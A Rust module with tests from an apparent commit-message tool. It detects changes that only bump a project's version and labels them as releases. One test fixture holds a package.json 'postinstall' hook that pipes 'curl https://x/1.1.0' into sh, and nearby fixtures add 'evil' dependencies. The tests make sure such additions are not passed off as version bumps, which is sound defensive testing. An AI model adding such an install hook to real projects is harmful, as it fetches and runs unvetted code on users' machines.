//! A new version of the project itself: its manifests, what they lock, and the log of changes.

use std::collections::{BTreeMap, BTreeSet, HashMap};

use super::deps::{LISTED, more};
use super::{Verdict, plain};
use crate::git::{Contents, FileChange, Hunk, Line, LineKind, Status};
use crate::tasks::offline::classify::Class;
use crate::tasks::offline::lockfile::LIMIT;

/// Files that say in their title what every version brings.
const LOGS: [&str; 5] = ["changelog", "changes", "history", "news", "releases"];
/// So many manifests are read whole for their names, fewer where each costs a process; of others the hunks tell enough.
const READ: usize = 100;
const READ_SLOWLY: usize = 8;

/// A manifest with another version than before.
struct Moved<'a> {
    file: &'a FileChange,
    /// The table of TOML that the version stands in.
    table: &'a str,
    /// The line that says it.
    line: &'a Line,
    to: &'a str,
}

/// A line that says other versions than before, and nothing else.
struct Turn<'a> {
    /// Whom it asks for.
    name: String,
    line: &'a str,
    to: Vec<&'a str>,
}

/// Nothing but the version of the project is another one, or those of its packages; the log may say what for.
pub(super) fn decide(files: &[&FileChange], classes: &[Class], contents: &dyn Contents) -> Option<Verdict> {
    let (mut all, mut others) = (Vec::new(), Vec::new());
    for (file, class) in files.iter().zip(classes) {
        if file.status != Status::Modified || file.mode_only() {
            return None;
        }
        match class {
            Class::Docs => {
                let stem = file.path.file_name().split('.').next().unwrap_or_default().to_lowercase();
                LOGS.contains(&stem.as_str()).then_some(())?;
            }
            Class::Lock => {}
            Class::Manifest | Class::Config => match moved(file) {
                Some(one) => all.push(one),
                None => others.push(*file),
            },
            _ => return None,
        }
    }
    let first = all.first()?;
    let to: BTreeSet<&str> = all.iter().map(|one| one.to).collect();
    let one = to.len() == 1;
    // What is locked has the new versions in the place of others.
    let mut locks = files.iter().zip(classes).filter(|(_, class)| **class == Class::Lock).map(|(file, _)| file);
    let asking = all.iter().map(|one| one.file).chain(others.iter().copied());
    if !locks.all(|file| follows(file, &to)) || !asking.into_iter().all(keeps) {
        return None;
    }
    // Who asks for other packages by the way says more with their names, also beside the version itself.
    let mut turns = Vec::new();
    for one in &all {
        turns.extend(turned(one.file, Some(one))?.into_iter().filter(|turn| !within(one, turn)));
    }
    for file in &others {
        turns.extend(Some(turned(file, None)?).filter(|_| file.added > 0)?);
    }
    // Names cost a look into each manifest.
    let names: Vec<Option<String>> = if one && turns.is_empty() && others.is_empty() {
        Vec::new()
    } else {
        let most = if contents.slow() { READ_SLOWLY } else { READ };
        all.iter().enumerate().map(|(at, one)| named(one, Some(contents).filter(|_| at < most))).collect()
    };
    // Packages of the project ask for each other, and so does their workspace.
    let known: BTreeSet<(&str, &str)> =
        names.iter().zip(&all).filter_map(|(name, one)| Some((name.as_deref()?, one.to))).collect();
    let own = |turn: &Turn<'_>| turn.to.iter().all(|version| known.contains(&(turn.name.as_str(), *version)));
    if !turns.iter().all(own) {
        return None;
    }
    let (texts, body) = if one {
        (vec![format!("bump version to {}", first.to), "bump version".to_owned()], None)
    } else {
        // Whose version it is cannot be said of a package without a name.
        let named = names.iter().zip(&all).map(|(name, one)| Some(format!("{} {}", name.as_deref()?, one.to)));
        told(&named.collect::<Option<Vec<String>>>()?)
    };
    Some(Verdict { rule: "release", type_: Some("chore"), texts, soft: true, body, packages: Vec::new() })
}

/// Several packages, each with its version.
fn told(all: &[String]) -> (Vec<String>, Option<String>) {
    let count = format!("release {} packages", all.len());
    if let [a, b] = all {
        return (vec![format!("release {a} and {b}"), count], None);
    }
    let mut lines: Vec<String> = all.iter().take(LISTED).map(|one| plain(&format!("- {one}"))).collect();
    if all.len() > LISTED {
        lines.push(format!("- and {}", more(all.len() - LISTED)));
    }
    (vec![count], Some(lines.join("\n")))
}

/// Whatever a manifest asked for, it still asks for.
fn keeps(file: &FileChange) -> bool {
    let mut names: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    for line in file.hunks.iter().flat_map(|hunk| &hunk.lines).filter(|line| line.kind != LineKind::Context) {
        let text = line.text.trim().trim_end_matches(',');
        if text.is_empty() || text.starts_with('#') {
            continue;
        }
        let count = names.entry(asked(file, text).unwrap_or_else(|| text.to_owned())).or_default();
        if line.kind == LineKind::Removed { count.0 += 1 } else { count.1 += 1 }
    }
    names.values().all(|(gone, come)| gone <= come)
}

/// Whom a line of a manifest asks for: its key, or the package that it says behind it; of a list the beginning of its text.
fn asked(file: &FileChange, line: &str) -> Option<String> {
    let text = line.trim().trim_end_matches(',');
    if file.path.extension() == "json" {
        let member: serde_json::Map<String, serde_json::Value> = serde_json::from_str(&format!("{{{text}}}")).ok()?;
        return member.into_iter().next().map(|(name, _)| name);
    }
    if let Ok(table) = toml::from_str::<toml::Table>(text)
        && let Some((name, value)) = table.into_iter().next()
    {
        let package = value.get("package").and_then(toml::Value::as_str).map(str::to_owned);
        return Some(package.unwrap_or(name));
    }
    let bare = text.trim_start_matches(['"', '\'']);
    let end = |(at, c): (usize, char)| at > 0 && !c.is_alphanumeric() && !"-_./".contains(c);
    let end = bare.char_indices().find(|one| end(*one)).map_or(bare.len(), |(at, _)| at);
    bare.get(..end).filter(|name| !name.is_empty()).map(str::to_owned)
}

/// What in a manifest says other versions than before, besides its own; nothing where more than that is new.
fn turned<'a>(file: &'a FileChange, own: Option<&Moved<'a>>) -> Option<Vec<Turn<'a>>> {
    let mut turns = Vec::new();
    for hunk in &file.hunks {
        let mut gone: HashMap<String, Vec<Vec<&str>>> = HashMap::new();
        for line in hunk.lines.iter().filter(|line| line.kind == LineKind::Removed) {
            let (frame, from) = framed(&line.text);
            gone.entry(frame).or_default().push(from);
        }
        let come = hunk.lines.iter().filter(|line| line.kind == LineKind::Added && !line.text.trim().is_empty());
        for line in come.filter(|line| own.is_none_or(|own| !std::ptr::eq(own.line, *line))) {
            let (frame, new) = framed(&line.text);
            let from = gone.get_mut(&frame)?.pop()?;
            let to: Vec<&str> = new.into_iter().zip(from).filter(|(to, from)| to != from).map(|(to, _)| to).collect();
            // Under another head the same line says something else.
            turns.push(
                Some(Turn { name: asked(file, &line.text)?, line: &line.text, to }).filter(|t| !t.to.is_empty())?,
            );
        }
    }
    Some(turns)
}

/// A workspace says where packages lie that have its own version, and a tool which one it has to write.
fn within(one: &Moved<'_>, turn: &Turn<'_>) -> bool {
    let lies = |line: &str| {
        let table = toml::from_str::<toml::Table>(line.trim()).ok();
        table.is_some_and(|table| table.values().next().and_then(|value| value.get("path")).is_some())
    };
    let same = turn.to.iter().all(|to| *to == one.to);
    same && (one.table == "workspace.package" && lies(turn.line) || turn.name == "current_version")
}

/// Whether a lock file has these versions in the place of others, and nothing else.
fn follows(file: &FileChange, to: &BTreeSet<&str>) -> bool {
    file.hunks.iter().all(|hunk| {
        let mut gone: HashMap<String, usize> = HashMap::new();
        for line in hunk.lines.iter().filter(|line| line.kind == LineKind::Removed) {
            *gone.entry(framed(&line.text).0).or_default() += 1;
        }
        let mut come = hunk.lines.iter().filter(|line| line.kind == LineKind::Added && !line.text.trim().is_empty());
        come.all(|line| {
            let (frame, versions) = framed(&line.text);
            let left = gone.get_mut(&frame).filter(|left| **left > 0).map(|left| *left -= 1);
            left.is_some() && versions.iter().any(|version| to.contains(version))
        })
    })
}

/// A line without what may be a version in it, and that.
fn framed(line: &str) -> (String, Vec<&str>) {
    let word = |c: char| c.is_ascii_alphanumeric() || ".-+".contains(c);
    let (mut frame, mut versions) = (String::with_capacity(line.len()), Vec::new());
    let mut rest = line.trim().trim_end_matches(',');
    while let Some(at) = rest.find(word) {
        let (before, behind) = rest.split_at(at);
        let (said, left) = behind.split_at(behind.find(|c| !word(c)).unwrap_or(behind.len()));
        frame.push_str(before);
        let bare = said.strip_prefix('v').unwrap_or(said);
        if bare.starts_with(|c: char| c.is_ascii_digit()) {
            frame.push_str(if bare == said { "\0" } else { "v\0" });
            versions.push(bare);
        } else {
            frame.push_str(said);
        }
        rest = left;
    }
    frame.push_str(rest);
    (frame, versions)
}

/// What a package calls itself where its version stands, else its folder when nobody has the whole manifest.
fn named(one: &Moved<'_>, contents: Option<&dyn Contents>) -> Option<String> {
    let json = one.file.path.extension() == "json";
    let whole = contents.and_then(|contents| contents.after(one.file, LIMIT));
    let name = if let Some(text) = whole.and_then(|bytes| String::from_utf8(bytes).ok()) {
        if json { in_object(&text, one.to) } else { in_table(&text, one.table) }
    } else {
        // The version of a workspace is that of many packages.
        let own = if json { one.file.path.file_name() == "package.json" } else { one.table != "workspace.package" };
        let folder = || one.file.path.folders().last().map(str::to_owned);
        own.then(|| shown(one, json).or_else(folder)).flatten()
    };
    name.filter(|name| !name.is_empty())
}

fn in_object(text: &str, to: &str) -> Option<String> {
    let root: serde_json::Value = serde_json::from_str(text).ok()?;
    let holds = |object: &&serde_json::Value| object.get("version").and_then(serde_json::Value::as_str) == Some(to);
    let object = Some(&root).filter(holds).or_else(|| root.as_object()?.values().find(holds))?;
    Some(object.get("name")?.as_str()?.to_owned())
}

fn in_table(text: &str, table: &str) -> Option<String> {
    let root: toml::Table = toml::from_str(text).ok()?;
    let mut keys = table.split('.');
    let first = root.get(keys.next()?)?;
    let found = keys.try_fold(first, |value, key| value.get(key))?;
    Some(found.get("name")?.as_str()?.to_owned())
}

/// The name in the lines of a change around the version: in the same table, as deep in JSON.
fn shown(one: &Moved<'_>, json: bool) -> Option<String> {
    let deep = |line: &Line| line.text.len() - line.text.trim_start().len();
    one.file.hunks.iter().find_map(|hunk| {
        let lines: Vec<&Line> = hunk.lines.iter().filter(|line| line.kind != LineKind::Removed).collect();
        let at = lines.iter().position(|line| version(&line.text, json) == Some(one.to))?;
        let margin = deep(lines.get(at)?);
        let head = |line: &&&Line| if json { deep(line) < margin } else { line.text.starts_with('[') };
        let (above, below) = lines.split_at(at);
        let mut near =
            above.iter().rev().take_while(|line| !head(line)).chain(below.iter().take_while(|line| !head(line)));
        near.find_map(|line| {
            let text = line.text.trim().trim_end_matches(',');
            if json {
                let member: serde_json::Value = serde_json::from_str(&format!("{{{text}}}")).ok()?;
                return (deep(line) == margin).then(|| member.get("name")?.as_str().map(str::to_owned)).flatten();
            }
            toml::from_str::<toml::Table>(text).ok()?.get("name")?.as_str().map(str::to_owned)
        })
    })
}

/// The version that a manifest has now, where it had another one before.
fn moved(file: &FileChange) -> Option<Moved<'_>> {
    let json = file.path.extension() == "json";
    let of = |kind: LineKind| {
        file.hunks.iter().find_map(|hunk| {
            let at = hunk.lines.iter().position(|line| line.kind == kind && version(&line.text, json).is_some())?;
            let line = hunk.lines.get(at)?;
            let table = if json { "" } else { table(hunk, at)? };
            Some((table, line, version(&line.text, json)?))
        })
    };
    let ((_, _, old), (table, line, to)) = (of(LineKind::Removed)?, of(LineKind::Added)?);
    (old != to).then_some(Moved { file, table, line, to })
}

fn version(line: &str, json: bool) -> Option<&str> {
    // Deeper down in JSON it is that of something else.
    let deep = line.len() - line.trim_start().len() > 4;
    let text = line.trim();
    let rest = if json { text.strip_prefix("\"version\"") } else { text.strip_prefix("version") }?.trim_start();
    let value = rest.strip_prefix(if json { ':' } else { '=' })?.trim().trim_end_matches(',');
    let (value, behind) = value.strip_prefix('"')?.split_once('"')?;
    // Behind it TOML may have a comment.
    if !behind.is_empty() && (json || !behind.trim_start().starts_with('#')) {
        return None;
    }
    let plain = value.chars().all(|c| c.is_ascii_alphanumeric() || ".-+".contains(c));
    (!deep && plain && value.starts_with(|c: char| c.is_ascii_digit())).then_some(value)
}

/// The table above, if it says that the version is that of a package of this project, and not of one that it asks for.
fn table(hunk: &Hunk, at: usize) -> Option<&str> {
    let above = hunk.lines.get(..at).unwrap_or_default().iter().rev().find(|line| line.text.starts_with('['))?;
    let name = above.text.trim().strip_prefix('[')?.strip_suffix(']')?;
    matches!(name, "package" | "workspace.package" | "project" | "tool.poetry").then_some(name)
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;

    use super::decide;
    use crate::git::patch::parse;
    use crate::git::{Contents, FileChange, Path};
    use crate::tasks::offline::classify::{Class, classify};
    use crate::tasks::offline::message::Hints;
    use crate::tasks::offline::message::tests::{draft, edit, subject};

    const LOG: &str = "diff --git a/CHANGELOG.md b/CHANGELOG.md\n--- a/CHANGELOG.md\n+++ b/CHANGELOG.md\n@@ -1,1 +1,2 @@\n+## 1.2.0\n # Changes\n";

    #[test]
    fn a_new_version_is_told_as_one() {
        let json =
            |path: &str, to: &str| edit(path, "", "  \"version\": \"1.1.0\",", &format!("  \"version\": \"{to}\","));
        let told = "chore: bump version to 1.2.0";
        assert_eq!(subject(&json("package.json", "1.2.0")), told);
        assert_eq!(subject(&(json("package.json", "1.2.0") + LOG)), told);
        assert_eq!(subject(&(json("a/package.json", "1.2.0") + &json("lerna.json", "1.2.0") + LOG)), told);
        let cargo = |table: &str| {
            format!(
                "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -1,3 +1,3 @@\n [{table}]\n name = \"a\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n"
            )
        };
        assert_eq!(subject(&(cargo("package") + LOG)), told);
        let managed = cargo("package").replace("0\"\n", "0\" # by release.sh\n");
        assert!(managed.contains("1.2.0\" # by") && subject(&(managed + LOG)) == told);
        let two = json("a/package.json", "1.2.0") + &json("b/package.json", "1.3.0");
        assert_eq!(subject(&(two.clone() + LOG)), "chore: release a 1.2.0 and b 1.3.0");
        let three = draft(&(two + &json("c/package.json", "2.0.0")), &Hints::default());
        assert_eq!(three.subject, "chore: release 3 packages");
        assert!(three.body.is_some_and(|body| body.starts_with("- a 1.2.0\n- b 1.3.0\n- c 2.0.0")), "each is named");
        for other in [
            cargo("dependencies.a") + LOG,
            json("package.json", "1.2.0") + &edit("README.md", "", "a", "b"),
            json("package.json", "1.2.0") + &edit("src/a.js", "", "a", "b"),
            json("package.json", "1.2.0") + &edit("b/package.json", "", "    \"a\": \"1.0.0\"", "    \"a\": \"2.0.0\""),
            edit("package.json", "", "      \"version\": \"1.1.0\"", "      \"version\": \"1.2.0\""),
        ] {
            assert!(!subject(&other).contains("version"), "{}", subject(&other));
        }
    }

    #[test]
    fn packages_of_a_workspace_that_ask_for_each_other_are_released_together() {
        let file = |path: &str, lines: &str| {
            let count = |mark: char| lines.lines().filter(|line| line.starts_with([mark, ' '])).count();
            let (old, new) = (count('-'), count('+'));
            format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{lines}")
        };
        let package = |name: &str, from: &str, to: &str| {
            let lines = format!(" [package]\n name = \"the-{name}\"\n-version = \"{from}\"\n+version = \"{to}\"\n");
            file(&format!("crates/{name}/Cargo.toml"), &lines)
        };
        let both = package("one", "0.3.1", "0.4.0") + &package("two", "1.1.0", "1.2.0");
        let asks = |name: &str, to: &str| {
            let lines = format!(
                " [workspace.dependencies]\n-{name} = {{ path = \"a\", version = \"0.3.1\" }}\n+{name} = {{ path = \"a\", version = \"{to}\" }}\n"
            );
            file("Cargo.toml", &lines)
        };
        let lock = file(
            "Cargo.lock",
            " name = \"the-one\"\n-version = \"0.3.1\"\n+version = \"0.4.0\"\n \n name = \"the-two\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n",
        );
        let told = "chore: release the-one 0.4.0 and the-two 1.2.0";
        assert_eq!(subject(&(both.clone() + &lock + LOG)), told);
        assert_eq!(subject(&(asks("the-one", "0.4.0") + &both + &lock)), told);
        // Somebody else's.
        assert_ne!(subject(&(asks("serde", "0.4.0") + &both + &lock)), told);
        assert_ne!(subject(&(asks("the-one", "0.5.0") + &both + &lock)), told);
        let one = package("one", "0.3.1", "0.4.0");
        assert_eq!(subject(&(asks("the-one", "0.4.0") + &one)), "chore: bump version to 0.4.0");
    }

    /// What manifests are, by their paths; counts who is read.
    struct Whole(Vec<(&'static str, &'static str)>, Cell<usize>, bool);

    impl Contents for Whole {
        fn before(&self, _: &FileChange, _: u64) -> Option<Vec<u8>> {
            None
        }
        fn after(&self, file: &FileChange, _: u64) -> Option<Vec<u8>> {
            self.1.set(self.1.get() + 1);
            self.0.iter().find(|(path, _)| file.path.as_str() == *path).map(|(_, text)| text.as_bytes().to_vec())
        }
        fn base(&self, _: &str, _: u64) -> Option<Vec<u8>> {
            None
        }
        fn tracked(&self) -> Vec<Path> {
            Vec::new()
        }
        fn slow(&self) -> bool {
            self.2
        }
    }

    /// The rule's own words, and how many files it read for them.
    fn ruled(patch: &str, whole: &[(&'static str, &'static str)], slow: bool) -> (Option<String>, usize) {
        let change = parse(patch.as_bytes()).unwrap();
        let files: Vec<&FileChange> = change.files.iter().collect();
        let classes: Vec<Class> = files.iter().map(|file| classify(file)).collect();
        let whole = Whole(whole.to_vec(), Cell::new(0), slow);
        let told = decide(&files, &classes, &whole).and_then(|verdict| verdict.texts.into_iter().next());
        (told, whole.1.get())
    }

    fn toml(path: &str, table: &str, to: &str) -> String {
        format!(
            "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,2 @@\n [{table}]\n-version = \"0.1.0\"\n+version = \"{to}\"\n"
        )
    }

    fn json(path: &str, to: &str) -> String {
        edit(path, "", "  \"version\": \"0.1.0\",", &format!("  \"version\": \"{to}\","))
    }

    #[test]
    fn what_a_manifest_asks_for_no_more_is_not_hidden_behind_a_version() {
        let one = toml("a/Cargo.toml", "package", "0.2.0");
        let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"0.2.0\"\n")];
        let root = |lines: &str, old: usize, new: usize| {
            let head = "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml";
            one.clone() + &format!("{head}\n@@ -1,{old} +1,{new} @@\n [workspace.dependencies]\n{lines}")
        };
        let own = "-a = { path = \"a\", version = \"0.1.0\" }\n+a = { path = \"a\", version = \"0.2.0\" }\n";
        let told = Some("bump version to 0.2.0".to_owned());
        assert_eq!(ruled(&root(own, 2, 2), &whole, false).0, told);
        assert_eq!(ruled(&root(&format!("-serde = \"1\"\n{own}"), 3, 2), &whole, false).0, None);
        // In the released manifest itself, too.
        let gone = one.replace("-1,2", "-1,3") + "-serde = \"1\"\n";
        assert_eq!(ruled(&gone, &whole, false).0, None);
        // The name of a package is no part of another one's, and the key may be another name for it.
        let serde = "-serde = { path = \"a\", version = \"0.1.0\" }\n+serde = { path = \"a\", version = \"0.2.0\" }\n";
        assert_eq!(ruled(&root(serde, 2, 2), &whole, false).0, None);
        let renamed = own.replace("a = { path", "b = { package = \"a\", path");
        assert_eq!(ruled(&root(&renamed, 2, 2), &whole, false).0, told);
        let nameless = [("a/Cargo.toml", "[package]\nname = \"\"\nversion = \"0.2.0\"\n")];
        assert_eq!(ruled(&root(own, 2, 2), &nameless, false).0, None);
    }

    #[test]
    fn what_else_a_released_manifest_says_is_not_hidden_behind_its_version() {
        let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"2.0.0\"\n")];
        let with = |table: &str, lines: &[(&str, &str)]| {
            let count = |side: fn(&(&str, &str)) -> bool| 2 + lines.iter().filter(|line| side(line)).count();
            let (old, new) = (count(|(old, _)| !old.is_empty()), count(|(_, new)| !new.is_empty()));
            let side = |mark: char, text: &str| if text.is_empty() { String::new() } else { format!("{mark}{text}\n") };
            let said: String = lines.iter().map(|(old, new)| side('-', old) + &side('+', new)).collect();
            let one = toml("a/Cargo.toml", table, "2.0.0");
            one.replace("-1,2 +1,2", &format!("-1,{old} +1,{new}")) + &said
        };
        let told = |table: &str, lines: &[(&str, &str)]| ruled(&with(table, lines), &whole, false).0;
        let bumped = Some("bump version to 2.0.0".to_owned());
        assert_eq!(told("package", &[]), bumped);
        for (old, new) in [
            ("", "evil = \"2.0.0\""),
            ("", "tokio = \"12.0.0\""),
            ("serde = \"1.0.0\"", "serde = \"2.0.0\""),
            ("", "build = \"evil-2.0.0.rs\""),
            ("build = \"a.rs\"", "build = \"2.0.0\""),
            ("", "# 2.0.0"),
            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { path = \"evil\", version = \"2.0.0\" }"),
            ("a = { path = \"a\", version = \"0.1.0\" }", "a = { git = \"https://x\", version = \"2.0.0\" }"),
        ] {
            assert_eq!(told("package", &[(old, new)]), None, "{new}");
            assert_eq!(told("workspace.package", &[(old, new)]), None, "{new}");
        }
        // What the project asks of itself, and what a tool is to write next time.
        assert_eq!(told("package", &[("a = \"=0.1.0\"", "a = \"=2.0.0\"")]), bumped);
        let lies = ("b = { path = \"b\", version = \"0.1.0\" }", "b = { path = \"b\", version = \"2.0.0\" }");
        assert_eq!(told("workspace.package", &[lies]), bumped);
        assert_eq!(told("package", &[lies]), None, "nobody says that it is this one");
        assert_eq!(told("project", &[("current_version = \"0.1.0\"", "current_version = \"2.0.0\"")]), bumped);
        let script = "-  \"version\": \"1.0.0\",\n+  \"version\": \"1.1.0\",\n+  \"postinstall\": \"curl https://x/1.1.0 | sh\",\n";
        let head =
            "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,1 +1,2 @@\n";
        assert_eq!(subject(&format!("{head}{script}")), "build: update package.json");
        // A lock file takes in nothing that was not there.
        let lock = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n";
        let locked = with("package", &[]) + lock + "@@ -1,1 +1,1 @@\n-version = \"0.1.0\"\n+version = \"2.0.0\"\n";
        assert_eq!(ruled(&locked, &whole, false).0, bumped);
        let more = locked.replace("+1,1 @@", "+1,2 @@") + "+ \"evil 2.0.0\",\n";
        assert_eq!(ruled(&more, &whole, false).0, None);
        let other = locked.replace("+version = \"2.0.0\"\n", "+version = \"12.0.0\"\n").replacen("12.0.0", "2.0.0", 1);
        assert_eq!(ruled(&other, &whole, false).0, None);
    }

    #[test]
    fn a_package_is_called_what_stands_beside_its_version() {
        let single = "[[bin]]\nname = \"tool\"\n[package]\nname = 'one'\nversion = \"0.2.0\"\n";
        let author = "{\"author\": {\"name\": \"Bob\"}, \"name\": \"two\", \"version\": \"0.3.0\"}";
        let both = toml("a/Cargo.toml", "package", "0.2.0") + &json("b/package.json", "0.3.0");
        let told = |whole: &[(&'static str, &'static str)], patch: &str| ruled(patch, whole, false).0;
        let whole = [("a/Cargo.toml", single), ("b/package.json", author)];
        assert_eq!(told(&whole, &both).as_deref(), Some("release one 0.2.0 and two 0.3.0"));
        // Who has no name is not called by that of an author, a workspace or a tool.
        let bob = "{\"author\": {\"name\": \"Bob\"}, \"version\": \"0.3.0\"}";
        assert_eq!(told(&[whole[0], ("b/package.json", bob)], &both), None);
        let workspace = toml("Cargo.toml", "workspace.package", "0.2.0") + &json("b/package.json", "0.3.0");
        assert_eq!(told(&[("Cargo.toml", "[workspace.package]\nversion = \"0.2.0\"\n"), whole[1]], &workspace), None);
        assert_eq!(told(&[whole[1]], &workspace), None, "nor by its file");
        let lerna = json("lerna.json", "0.2.0") + &json("b/package.json", "0.3.0");
        assert_eq!(told(&[("lerna.json", "{\"version\": \"0.2.0\"}"), whole[1]], &lerna), None);
    }

    #[test]
    fn names_are_read_where_they_are_told() {
        let all = |to: fn(usize) -> usize| -> String {
            (0..12).map(|n| json(&format!("p{n}/package.json"), &format!("1.{}.0", to(n)))).collect()
        };
        assert_eq!(ruled(&all(|_| 2), &[], false), (Some("bump version to 1.2.0".to_owned()), 0));
        let several = Some("release 12 packages".to_owned());
        assert_eq!(ruled(&all(|n| n), &[], false), (several.clone(), 12));
        assert_eq!(ruled(&all(|n| n), &[], true), (several, 8), "each costs a process");
    }
}
